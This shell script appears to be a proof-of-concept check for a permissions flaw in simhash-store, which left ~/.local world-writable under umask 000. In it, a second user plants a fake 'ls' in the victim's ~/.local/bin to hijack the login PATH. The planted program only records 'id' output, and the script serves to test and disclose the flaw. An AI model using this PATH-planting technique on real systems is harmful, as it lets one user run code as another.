#!/bin/sh
# As root: a fresh account whose umask is 000 runs its first simhash-store command; the store made
# ~/.local and ~/.local/share mode 0777 (Python makes mkdir -p's parents with the umask alone), so
# another user could create ~/.local/bin (on the PATH of Debian's login shells) with programs of
# theirs. Needs users h19l_victim (a venv in ~/venv with simhash-store) and h19l_mallory.
set -u
rm -rf /home/h19l_victim/.local
cd /home/h19l_victim
runuser -u h19l_victim -- env -i HOME=/home/h19l_victim PATH=/home/h19l_victim/venv/bin:/usr/bin:/bin \
    sh -c 'umask 000; simhash-store stats' || true
ls -ld /home/h19l_victim/.local /home/h19l_victim/.local/share
# before the fix: mallory plants a program on the victim's next login PATH
if runuser -u h19l_mallory -- mkdir /home/h19l_victim/.local/bin 2>/dev/null; then
    printf '#!/bin/sh\nid > /tmp/h19l_owned\n' | runuser -u h19l_mallory -- tee /home/h19l_victim/.local/bin/ls >/dev/null
    runuser -u h19l_mallory -- chmod 755 /home/h19l_victim/.local/bin/ls
    echo "VULNERABLE: mallory made /home/h19l_victim/.local/bin/ls"
else
    echo "held: mallory cannot write in /home/h19l_victim/.local"
fi
